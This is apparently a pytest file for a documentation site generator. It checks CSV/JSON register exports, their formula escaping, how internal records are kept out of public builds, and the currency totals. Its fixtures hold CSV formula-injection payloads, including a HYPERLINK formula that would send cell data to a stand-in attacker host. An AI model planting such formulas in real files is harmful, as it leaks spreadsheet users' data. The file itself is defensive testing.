"""Each register as a spreadsheet (issue 23, item 3; accord.site.spreadsheets): the CSV and JSON a
register links are `accord export` for the site's audience, byte for byte, formula escaping
and all; a public build's files hold no internal record; the agreements register's totals of
resources by currency follow its facets in the browser, over every row of a long register.

Byte for byte, not row for row: the site's CSV is the very text `accord export KIND --bom`
writes (the byte-order mark included, for the file is opened by a double click in Excel, which
reads UTF-8 without one as another encoding), and the JSON the text of `--format json`, so any
difference at all, of a quote, a line ending or an escape, fails.
"""

from __future__ import annotations

import csv
import io
import json
import posixpath
import subprocess
import sys
import textwrap
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from playwright.sync_api import Browser

from accord.commands.cli import main
from accord.site import spreadsheets
from accord.site.paging import ROWS_AT_ONCE
from browsers import CHROMIUM, _serve, browser  # noqa: F401  (a fixture)
from engines import zensical
from sites import ZERO_CONFIG, build

AGREEMENTS = ROWS_AT_ONCE + 60  # a long register (accord.site.paging): its rows partly in a file
STATUSES = ("active", "draft", "negotiation", "expired")
CURRENCIES = ("EUR", "GBP", "USD")
HOSTILE = {  # an organisation's id → its title, each of which a spreadsheet would run as a formula
    "hostile-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "hostile-plus": "+1",
    "hostile-minus": "-1",
    "hostile-at": "@x",
}
PAGES = {  # register page (built, directory URLs) → the table its links are
    "agreements/index.html": "agreements",
    "organizations/index.html": "organizations",
    "playbooks/index.html": "playbooks",
    "retrospectives/index.html": "retrospectives",
    "responsibilities/index.html": "responsibilities",
    "lessons/index.html": "lessons",
}


def _config(audience: str) -> str:
    return ZERO_CONFIG.format(name="Spreadsheets").replace("  name: material\n", "  name: material\n  font: false\n") \
        .replace("  - accord/records\n", f"  - accord/records:\n      audience: {audience}\n")


def _amount(n: int) -> float | int:
    return 1_000 * (n % 7 + 1) + (n % 3) * 0.25 if n % 5 else 250_000 + n


def _write(docs: Path, rel: str, text: str) -> None:
    path = docs / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")


def make_knowledge_base(docs: Path) -> None:
    """Organisations with hostile names, AGREEMENTS agreements (every fifth internal) with
    resources in three currencies, a playbook and a retrospective; every record public but those."""
    orgs = ["city-council", "river-trust", *HOSTILE]
    for org in orgs:
        title = HOSTILE.get(org, org.replace("-", " ").title())
        _write(docs, f"organizations/{org}.md", f"""
            ---
            id: {org}
            type: organization
            title: {json.dumps(title)}
            kind: ngo
            confidentiality: public
            ---
            """)
    for n in range(AGREEMENTS):
        status = STATUSES[n % len(STATUSES)]
        other = orgs[1 + n % (len(orgs) - 1)]
        signed = "  signed: 2024-01-10\n" if status in ("active", "expired") else ""
        expires = "2025-06-30" if status == "expired" else "2030-06-30"
        resources = "".join(f"  - from: city-council\n    kind: funding\n    amount: {_amount(n + k)}\n"
                            f"    currency: {CURRENCIES[(n + k) % len(CURRENCIES)]}\n" for k in range(n % 3))
        internal = n % 5 == 0
        text = "\n".join([
            "---", f"id: agreement-{n:03d}", "type: agreement",
            f'title: "{"Internal deal" if internal else "Agreement"} number {n:03d}"', "kind: mou",
            f"status: {status}", f"confidentiality: {'internal' if internal else 'public'}",
            "parties:", "  - org: city-council", "    role: lead", f"  - org: {other}",
            "dates:", signed.rstrip("\n"), "  effective: 2024-02-01", f"  expires: {expires}",
            "responsibilities:", f'  - activity: "-Run the programme {n}"', f"    responsible: [{other}]",
            "    accountable: city-council", "resources:" if resources else "", resources.rstrip("\n"), "---", "",
        ])
        path = docs / "agreements" / f"agreement-{n:03d}.md"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("\n".join(line for line in text.split("\n") if line) + "\n", encoding="utf-8")
    _write(docs, "playbooks/grant-playbook.md", """
        ---
        id: grant-playbook
        type: playbook
        title: "@SUM(A1:A9) playbook"
        owner: hostile-at
        confidentiality: public
        ---
        """)
    _write(docs, "retrospectives/first-year.md", """
        ---
        id: first-year
        type: retrospective
        title: First year
        held: 2025-03-01
        agreements: [agreement-001]
        confidentiality: public
        lessons:
          - id: start-early
            title: "=1+1 start early"
            lesson: Start the paperwork early.
            impact: negative
        ---
        """)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("spreadsheets")
    make_knowledge_base(root / "docs")
    return root


def _built(root: Path, audience: str) -> Path:
    (root / "mkdocs.yml").write_text(_config(audience), encoding="utf-8")
    site = root / f"site-{audience}"
    result = build(root, strict=False)
    assert result.returncode == 0, result.log
    (root / "site").rename(site)
    return site


@pytest.fixture(scope="module")
def sites(project: Path) -> dict[str, Path]:
    return {audience: _built(project, audience) for audience in ("internal", "public")}


def export(project: Path, audience: str, *args: str) -> bytes:
    result = CliRunner().invoke(main, ["export", *args, "--audience", audience, "--docs-dir", str(project / "docs")])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def _links(site: Path, page: str) -> tuple[str, str, str]:
    """The register's CSV and JSON, as docs-relative paths of the site, and the link's words."""
    soup = BeautifulSoup((site / page).read_text(encoding="utf-8"), "html.parser")
    box = soup.select_one("[data-accord-register] .accord-downloads")
    assert box is not None, page
    csv_link, json_link = box.select("a[href]")
    assert csv_link.get_text() == "CSV" and json_link.get_text() == "JSON"
    folder = posixpath.dirname(page)
    return (posixpath.join(folder, csv_link["href"]), posixpath.join(folder, json_link["href"]),
            " ".join(box.get_text(" ").split()))


@pytest.mark.parametrize("audience", ["internal", "public"])
def test_each_registers_spreadsheets_are_accord_export_for_its_audience(project: Path, sites: dict[str, Path],
                                                                         audience: str) -> None:
    site = sites[audience]
    for page, kind in PAGES.items():
        csv_path, json_path, words = _links(site, page)
        assert not csv_path.endswith(".rows.json") and not json_path.endswith(".rows.json")
        assert (site / csv_path).read_bytes() == export(project, audience, kind, "--bom"), (audience, kind)
        assert (site / json_path).read_bytes() == export(project, audience, kind, "--format", "json"), (audience, kind)
        rows = list(csv.reader(io.StringIO((site / csv_path).read_text(encoding="utf-8-sig"), newline="")))
        count = len(rows) - 1
        assert f"({count:,} {'row' if count == 1 else 'rows'}, {spreadsheets.ROW_OF[kind]})" in words, words
    # The agreements register is long: its rows file and its spreadsheets are different files.
    assert (site / "agreements" / "index.rows.json").is_file()


def test_a_public_builds_spreadsheets_hold_no_internal_record(project: Path, sites: dict[str, Path]) -> None:
    internal = [f"agreement-{n:03d}" for n in range(0, AGREEMENTS, 5)]
    public_site = sites["public"]
    for page in PAGES:
        for path in _links(public_site, page)[:2]:
            text = (public_site / path).read_text(encoding="utf-8")
            assert "Internal deal" not in text, path
            assert not [record for record in internal if record in text], path
    ids = {row["id"] for row in csv.DictReader(io.StringIO(
        (public_site / "agreements" / "agreements.csv").read_text(encoding="utf-8-sig")))}
    assert ids == {path.parent.name for path in (public_site / "agreements").glob("*/index.html")}
    assert len(ids) == AGREEMENTS - len(internal)
    # The internal build has them (the public one left them out, it did not lose them).
    assert "Internal deal number 000" in (sites["internal"] / "agreements" / "agreements.csv").read_text("utf-8")


def test_the_csv_opens_in_a_spreadsheet_as_text_with_its_formula_escaping(sites: dict[str, Path]) -> None:
    """Read as a spreadsheet reads it (Python's csv over the file): a value a spreadsheet would
    run as a formula starts with an apostrophe, every other value is as written; the JSON keeps
    the values as they are (it is data, not a sheet)."""
    site = sites["public"]
    sheet = (site / "organizations" / "organizations.csv").read_bytes()
    assert sheet.startswith("\ufeff".encode()) and b"\r\n" in sheet
    organizations = {row["id"]: row for row in csv.DictReader(io.StringIO(sheet.decode("utf-8-sig"), newline=""))}
    for org, title in HOSTILE.items():
        assert organizations[org]["title"] == "'" + title
    assert organizations["city-council"]["title"] == "City Council"
    data = json.loads((site / "organizations" / "organizations.json").read_text(encoding="utf-8"))
    assert {row["id"]: row["title"] for row in data["rows"] if row["id"] in HOSTILE} == HOSTILE
    assert data["audience"] == "public" and data["export"] == "organizations"
    # Markup is written as JSON escapes, which read as the same value: no file the site serves holds it.
    raw = (site / "organizations" / "organizations.json").read_text(encoding="utf-8")
    assert '"=HYPERLINK(\\"http://evil.example/?leak=\\"\\u0026A1' in raw and "&A1" not in raw
    agreements = list(csv.DictReader(io.StringIO((site / "agreements" / "agreements.csv").read_text("utf-8-sig"))))
    parties = {name for row in agreements for name in row["parties"].split("; ")}
    assert "City Council" in parties  # a list joined with "; ", starting with a plain name
    playbooks = list(csv.DictReader(io.StringIO((site / "playbooks" / "playbooks.csv").read_text("utf-8-sig"))))
    assert playbooks[0]["title"] == "'@SUM(A1:A9) playbook" and playbooks[0]["owner_name"] == "'@x"
    lessons = list(csv.DictReader(io.StringIO((site / "lessons" / "lessons.csv").read_text("utf-8-sig"))))
    assert lessons[0]["title"] == "'=1+1 start early"
    duties = list(csv.DictReader(io.StringIO(
        (site / "responsibilities" / "responsibilities.csv").read_text("utf-8-sig"))))
    assert duties and all(row["activity"].startswith("'-Run the programme ") for row in duties)
    # A number stays a number: the count of a partner's agreements is not quoted text.
    assert all(row["agreements"].isdigit() for row in organizations.values())


def test_accord_render_writes_the_spreadsheets_beside_each_register(project: Path, sites: dict[str, Path],
                                                                    tmp_path: Path) -> None:
    """For another engine (Zensical copies the files that are not Markdown): beside each page,
    named as its links name them, the same bytes as the plugin build's."""
    (project / "mkdocs.yml").write_text(_config("public"), encoding="utf-8")
    out = tmp_path / "plain"
    made = subprocess.run([sys.executable, "-m", "accord", "render", str(out)], cwd=project,
                          capture_output=True, text=True, check=False)
    assert made.returncode == 0, made.stdout + made.stderr
    for page, kind in PAGES.items():
        source = "responsibilities.md" if page.startswith("responsibilities/") else page.replace(".html", ".md")
        text = (out / "docs" / source).read_text(encoding="utf-8")
        for name in spreadsheets.file_names(kind):
            assert f'href="{name}"' in text
            beside = out / "docs" / posixpath.dirname(source) / name
            assert beside.read_bytes() == (sites["public"] / posixpath.dirname(page) / name).read_bytes()
    # Zensical publishes them where the pages link them (pages `x.html`, a register's folder its own).
    built = zensical(out)
    assert built.returncode == 0, built.log
    for page, kind in PAGES.items():
        html = page.replace("/index.html", ".html") if page.startswith("responsibilities/") else page
        soup = BeautifulSoup((built.site / html).read_text(encoding="utf-8"), "html.parser")
        links = soup.select(".accord-downloads a[href]")
        assert [link["href"] for link in links] == list(spreadsheets.file_names(kind))
        for link in links:
            published = built.site / posixpath.dirname(html) / link["href"]
            assert published.read_bytes() == (sites["public"] / posixpath.dirname(page) / link["href"]).read_bytes()


def test_a_failed_build_leaves_no_spreadsheet(tmp_path: Path) -> None:
    make_knowledge_base(tmp_path / "docs")
    (tmp_path / "mkdocs.yml").write_text(_config("public").replace("  font: false\n",
                                                                   "  font: false\n  custom_dir: overrides\n"))
    broken = tmp_path / "overrides" / "accord" / "pages" / "due.md.j2"
    broken.parent.mkdir(parents=True)
    broken.write_text("{{ no_such_function() }}\n", encoding="utf-8")
    result = build(tmp_path, strict=False)
    assert result.returncode != 0
    assert not [p for p in (tmp_path / "site").rglob("*") if p.suffix in (".csv", ".json")
                and p.parent.name in ("agreements", "organizations", "lessons")]


def test_the_register_and_its_rows_carry_the_amounts_and_the_page_starts_with_every_total(
        sites: dict[str, Path]) -> None:
    site = sites["internal"]
    expected = _totals(site, set(_agreements(site)))
    soup = BeautifulSoup((site / "agreements" / "index.html").read_text(encoding="utf-8"), "html.parser")
    totals = soup.select_one("[data-accord-totals]")
    assert totals is not None
    shown = totals.select_one("[data-accord-totals-of]").get_text() + " " + totals.select_one(
        "[data-accord-totals-sums]").get_text(" ")
    assert " ".join(shown.split()) == f"Resources of all {AGREEMENTS} agreements: " + expected
    assert "Amendments are not added" in totals.get_text(" ")


def test_an_amendments_resources_are_not_added_to_those_of_the_agreement_it_amends() -> None:
    """The demo's amendment reallocates 60,000 EUR of its grant ("the total is unchanged"):
    added, the register's total would count it twice."""
    from accord.format.loading import load
    from conftest import DEMO_DOCS

    records = {record.id: record for record in load(DEMO_DOCS).records}
    amendment = records["riverside-flood-resilience-grant-amendment-1"]
    assert any(resource.amount for resource in amendment.agreement.resources)
    assert spreadsheets.hundredths(amendment) == {}
    assert spreadsheets.hundredths(records["riverside-flood-resilience-grant"])


def _said(totals: object) -> str:
    """What the totals line says (not the note under it)."""
    of = totals.locator("[data-accord-totals-of]").inner_text()  # type: ignore[attr-defined]
    sums = totals.locator("[data-accord-totals-sums]").inner_text()  # type: ignore[attr-defined]
    return " ".join(f"{of} {sums}".split())


def _agreements(site: Path) -> dict[str, BeautifulSoup]:
    """Every row of the agreements register, from its rows file (accord.site.paging)."""
    data = json.loads((site / "agreements" / "index.rows.json").read_text(encoding="utf-8"))
    rows = [BeautifulSoup(row, "html.parser").tr for row in data["rows"]]
    return {row["data-accord-id"]: row for row in rows}


def _totals(site: Path, ids: set[str]) -> str:
    """The sums by currency of the agreements `ids`, from their records' resources (a sum of
    hundredths, as the site writes an amount)."""
    sums: dict[str, int] = defaultdict(int)
    for n in range(AGREEMENTS):
        if f"agreement-{n:03d}" in ids:
            for k in range(n % 3):
                sums[CURRENCIES[(n + k) % len(CURRENCIES)]] += round(_amount(n + k) * 100)
    return " · ".join(spreadsheets.money(value, currency) for currency, value in sorted(sums.items()))


@pytest.fixture(scope="module")
def served(sites: dict[str, Path]) -> Iterator[str]:
    base, server = _serve(sites["internal"])
    yield base
    server.shutdown()


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_the_totals_by_currency_follow_the_facets_over_every_row(browser: Browser, served: str,  # noqa: F811
                                                                 sites: dict[str, Path]) -> None:
    rows = _agreements(sites["internal"])
    page = browser.new_context(viewport={"width": 1440, "height": 900}).new_page()
    page.goto(served + "agreements/")
    page.wait_for_selector("[data-accord-loaded]", state="attached", timeout=30_000)
    totals = page.locator("[data-accord-totals]")
    assert _said(totals) == f"Resources of all {AGREEMENTS} agreements: " + _totals(
        sites["internal"], set(rows))
    for status in ("draft", "expired"):
        page.select_option("select[data-accord-facet=status]", status)
        matching = {id_ for id_, row in rows.items() if status in row["data-status"].split()}
        assert len(matching) < AGREEMENTS
        expected = _totals(sites["internal"], matching)
        assert _said(totals) == \
            f"Resources of the {len(matching)} agreements that match: {expected}"
        # Different currencies are never added: one total per currency the matching rows hold.
        currencies = {token.split(":")[0] for id_ in matching for token in rows[id_].get("data-accord-amounts", "")
                      .split()}
        assert totals.locator(".accord-total").count() == len(currencies) > 1
    # Past the rows listed: the count says only the first are listed, the totals are of every match.
    page.select_option("select[data-accord-facet=status]", "all")
    page.fill("input.accord-filter", "number")
    assert "the first 200 are listed" in page.locator("[data-accord-count]").inner_text()
    assert _said(totals).startswith(f"Resources of all {AGREEMENTS} agreements:")
    page.fill("input.accord-filter", "deal")  # the internal agreements, of which few are listed at first
    matching = {id_ for id_, row in rows.items() if "deal" in row.get_text("").lower()}
    assert 0 < len(matching) < AGREEMENTS
    assert _said(totals) == \
        f"Resources of the {len(matching)} agreements that match: {_totals(sites['internal'], matching)}"
    page.fill("input.accord-filter", "no such agreement")
    assert _said(totals) == "Resources of the 0 agreements that match: none with an amount"
    page.context.close()


def test_a_dirty_build_for_another_audience_replaces_the_spreadsheets(project: Path, tmp_path: Path) -> None:
    """`mkdocs build --dirty` into a folder an internal build wrote: the public register links
    the public spreadsheet, not the internal one left there (which was taken for an author's)."""
    import shutil

    root = tmp_path / "kb"
    shutil.copytree(project / "docs", root / "docs")
    command = [sys.executable, "-m", "mkdocs", "build", "-q", "--site-dir", str(root / "site")]
    for audience, extra in (("internal", []), ("public", ["--dirty"])):
        (root / "mkdocs.yml").write_text(_config(audience), encoding="utf-8")
        made = subprocess.run(command + extra, cwd=root, capture_output=True, text=True, check=False,
                              env={**__import__("os").environ, "NO_MKDOCS_2_WARNING": "1"})
        assert made.returncode == 0, made.stdout + made.stderr
    assert (root / "site" / "agreements" / "agreements.csv").read_bytes() == export(project, "public", "agreements",
                                                                                  "--bom")
